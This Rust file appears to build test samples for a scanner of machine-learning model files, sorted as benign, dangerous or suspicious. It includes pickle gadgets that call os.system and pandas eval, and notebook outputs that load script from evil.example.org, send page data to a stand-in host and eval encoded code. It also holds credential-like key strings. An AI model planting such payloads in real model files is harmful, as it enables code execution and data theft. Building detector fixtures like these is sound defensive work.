//! What files of honest tools import, as those wrote them, and honest files beside the ways through that scanners were
//! told of; and the ways that lie nearest to those.

use std::collections::BTreeMap;

use base64ct::{Base64, Encoding};

use super::{
    Adding, Level, Sample, adding,
    made::{Zip, call, calling, global, of, one, pickle, text, torch, zip},
};

/// Names that files import which scikit-learn, scipy, pandas, statsmodels, gensim, boosters, torch and others wrote.
const NAMES: &str = include_str!("honest.tsv");

/// `getattr` of an object and a name.
fn attribute(of: Vec<u8>, name: &str) -> Vec<u8> {
    call(global("builtins", "getattr"), &[of, text(name)])
}

/// A page in an output of a notebook.
fn shown(html: &str) -> String {
    let cell = serde_json::json!({
        "cell_type": "code", "source": ["plot()"],
        "outputs": [{ "output_type": "display_data", "data": { "text/html": [html] } }],
    });
    serde_json::json!({ "cells": [cell], "nbformat": 4, "metadata": {} }).to_string()
}

const KEY: &str = "AIzaSyD4k9vQ2mT7xW1pL8rB5nC3hJ6gF0eUzYa";

/// The names of each package, in one pickle.
fn names(add: &mut Adding) {
    let mut packages: BTreeMap<&str, Vec<u8>> = BTreeMap::new();
    for (module, name) in NAMES.lines().skip(1).filter_map(|row| row.split_once('\t')) {
        let package = module.split('.').next().unwrap_or(module);
        let made = if name.starts_with(|it: char| it.is_ascii_uppercase()) {
            [global(module, name), b")\x81".to_vec()].concat()
        } else {
            global(module, name)
        };
        packages.entry(package).or_default().extend(made);
    }
    for (package, names) in packages {
        let object = pickle([b"](".to_vec(), names, b"e".to_vec()].concat());
        add(&format!("names of {package}"), one("model.pkl", &object));
        add(&format!("names of {package} for torch"), one("extra.pt", torch(&object)));
    }
}

pub(crate) fn benign(samples: &mut Vec<Sample>) {
    let mut add = adding(samples, Level::Clean);
    names(&mut add);
    let policy = pickle(global("stable_baselines3.common.policies", "ActorCriticPolicy"));
    add("a class in a description", one("ppo.zip", baselines(&policy)));
    let method = pickle(attribute(global("builtins", "str"), "split"));
    add("a method of a text, kept", one("a.pkl", method));
    let vectorizer = [
        global("sklearn.feature_extraction.text", "CountVectorizer"),
        b")\x81".to_vec(),
    ];
    add(
        "a method of an object, kept",
        one("a.pkl", pickle(attribute(vectorizer.concat(), "_word_ngrams"))),
    );
    let over = call(global("builtins", "iter"), &[b"](K\x01K\x02e".to_vec()]);
    add("one over a list", one("a.pkl", pickle(over)));
    let none = call(global("builtins", "type"), &[b"N".to_vec()]);
    add("the type of nothing", one("a.pkl", pickle(none)));
    for html in [
        "<table><tr><td>1</td></tr></table>",
        "<script src=\"https://cdn.plot.ly/plotly-2.27.0.min.js\"></script><div></div>",
        "<script>Plotly.newPlot('x', [1])</script>",
        "<script type=\"text/javascript\">require.config({paths: {vega: 'https://cdn.jsdelivr.net/npm/vega@5?noext'}})</script>",
    ] {
        add("a notebook with a plot", one("demo.ipynb", shown(html)));
    }
    add("a key in a page", one("docs/terms.html", format!("<script>key = \"{KEY}\"</script>")));
    let body = "MIIEvQIBADANBgkqhkiG9w0B".repeat(8);
    add(
        "a key of a test",
        one("tests/data/key.pem", format!("-----BEGIN PRIVATE KEY-----\n{body}\n")),
    );
    for held in [
        "sk-ant-api03-Your0Key0Goes0Here0abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH",
        "r8_1234567890abcdefABCDEF1234567890abcde",
        "ghp_xxxxxxxxxxxxxxxxxxxx1234567890123456",
    ] {
        add("what stands for a key", one("NOTES.txt", format!("export KEY={held}\n")));
    }
    add(
        "a library of a package",
        of_bytes(&[
            ("x-1.dist-info/RECORD", b"x/_c.so,,\n"),
            ("x/_c.so", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0"),
        ]),
    );
    for config in [
        "{\"model_type\": \"llama\", \"_attn_implementation_internal\": \"sdpa\"}",
        "{\"model_type\": \"llava\", \"attn_implementation\": {\"text_config\": \"eager\", \"vision_config\": null}}",
        "{\"graph\": {\"target\": \"torch.ops.aten.linear.default\"}, \"other\": {\"target\": \"torch.ops.higher_order.cond\"}}",
    ] {
        add("a configuration", one("config.json", config));
    }
    add(
        "how it generates",
        one("generation_config.json", "{\"custom_generate\": null, \"do_sample\": true}"),
    );
    add(
        "MLServer's own runtime",
        one(
            "model-settings.json",
            "{\"name\": \"m\", \"implementation\": \"mlserver_sklearn.SKLearnModel\"}",
        ),
    );
    add(
        "a model of Triton",
        of(&[
            ("config.pbtxt", "name: \"m\"\nbackend: \"onnxruntime\"\n"),
            ("1/model.py", "x = 1\n"),
        ]),
    );
    add(
        "tasks of an editor",
        one(
            ".vscode/tasks.json",
            "{\n// build\n\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"b\", \"command\": \"make\"},]}",
        ),
    );
    let keras = |vocabulary: &str| {
        let config = format!(
            "{{\"class_name\": \"Sequential\", \"module\": \"keras\", \"config\": {{\"layers\": [{{\"class_name\": \"StringLookup\", \"module\": \"keras.layers\", \"config\": {{\"vocabulary\": {vocabulary}}}}}]}}}}"
        );
        zip(&[
            ("metadata.json", b"{\"keras_version\": \"3.8.0\"}"),
            ("config.json", config.as_bytes()),
        ])
    };
    add("a vocabulary of Keras", one("m.keras", keras("[\"a\", \"b\"]")));
    add("a vocabulary beside it", one("m.keras", keras("\"vocabulary.txt\"")));
}

fn of_bytes(files: &[(&str, &[u8])]) -> Vec<(String, Vec<u8>)> {
    files.iter().map(|(path, bytes)| ((*path).to_owned(), bytes.to_vec())).collect()
}

pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
    let evil = calling("os", "system", "true", 1);
    adding(samples, Level::Dangerous)("a call in a description", one("ppo.zip", baselines(&evil)));
    let mut add = |name: &str, object: Vec<u8>| {
        let files = one("a.pkl", pickle(object));
        samples.push(Sample::owned(Level::Dangerous, name, files));
    };
    // what would serve where kept methods, functions of numbers and the type of nothing are let be
    let frame = || [global("pandas.core.frame", "DataFrame"), b")\x81".to_vec()].concat();
    let method = || attribute(frame(), "eval");
    add("a method that is called", call(method(), &[text("@x")]));
    let rebuilt = call(
        global("torch._tensor", "_rebuild_from_type_v2"),
        &[
            method(),
            global("torch", "Tensor"),
            b"(".to_vec(),
            text("@x"),
            b"tN".to_vec(),
        ],
    );
    add("a method that is handed on", rebuilt);
    let part = call(global("functools", "partial"), &[method(), text("@x")]);
    let over = call(global("builtins", "iter"), &[part, b"N".to_vec()]);
    add("a method that is called over and over", call(global("collections", "deque"), &[over]));
    add("a private attribute of an object", attribute(frame(), "__class__"));
    add("a method by which files are written", attribute(global("numpy", "ndarray"), "tofile"));
    add("the type of a module", call(global("builtins", "type"), &[global("numpy", "random")]));
    add(
        "a class that is made",
        call(global("builtins", "type"), &[text("X"), b")".to_vec(), b"}".to_vec()]),
    );
    add("what is private to a module", call(global("scipy.special", "__loader__"), &[text("os")]));
}

/// An archive of `stable-baselines3`, whose description holds this pickle.
fn baselines(pickle: &[u8]) -> Vec<u8> {
    let held = Base64::encode_string(pickle);
    let data =
        format!("{{\"policy_class\": {{\":type:\": \"abc\", \":serialized:\": \"{held}\"}}}}");
    let mut archive = Zip::default();
    archive.add("data", "data", data.as_bytes(), true);
    archive.add("policy.pth", "policy.pth", &torch(b"\x80\x02}q\0."), true);
    archive.done()
}

pub(crate) fn suspicious(samples: &mut Vec<Sample>) {
    let mut add = adding(samples, Level::Suspicious);
    let code = call(global("cloudpickle.cloudpickle", "_builtin_type"), &[text("CodeType")]);
    let made = call(
        global("cloudpickle.cloudpickle", "_make_function"),
        &[call(code, &[b"K\0".to_vec()]), b"}".to_vec()],
    );
    add("a function that is kept", one("a.pkl", pickle(made.clone())));
    add("a function in a description", one("ppo.zip", baselines(&pickle(made))));
    for html in [
        "<script src='//evil.example.org/x.js'></script>",
        "<script>fetch('https://a.example.org/?' + document.title)</script>",
        "<script>IPython.notebook.kernel.execute('x = 1')</script>",
        "<svg><script>eval(atob(x))</script></svg>",
    ] {
        add("a notebook whose output acts", one("demo.ipynb", shown(html)));
    }
    // packages that are known, and what they are not known for
    for object in [
        call(global("timm.layers.norm", "LayerNorm"), &[text("/etc/passwd")]),
        call(global("optuna.samplers", "make"), &[text("x")]),
        [
            global("gensim.models.tfidfmodel", "df2idf"),
            call(
                global("builtins", "iter"),
                &[global("gensim.models.tfidfmodel", "df2idf"), b"N".to_vec()],
            ),
            b"\x86".to_vec(),
        ]
        .concat(),
    ] {
        add("a name of a known package", one("a.pkl", pickle(object)));
    }
    add("a key of Google", one("config.json", format!("{{\"key\": \"{KEY}\"}}")));
    let program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0";
    add(
        "a program beside a package",
        of_bytes(&[("lib/x-1.dist-info/RECORD", b"x\n"), ("run", program)]),
    );
}
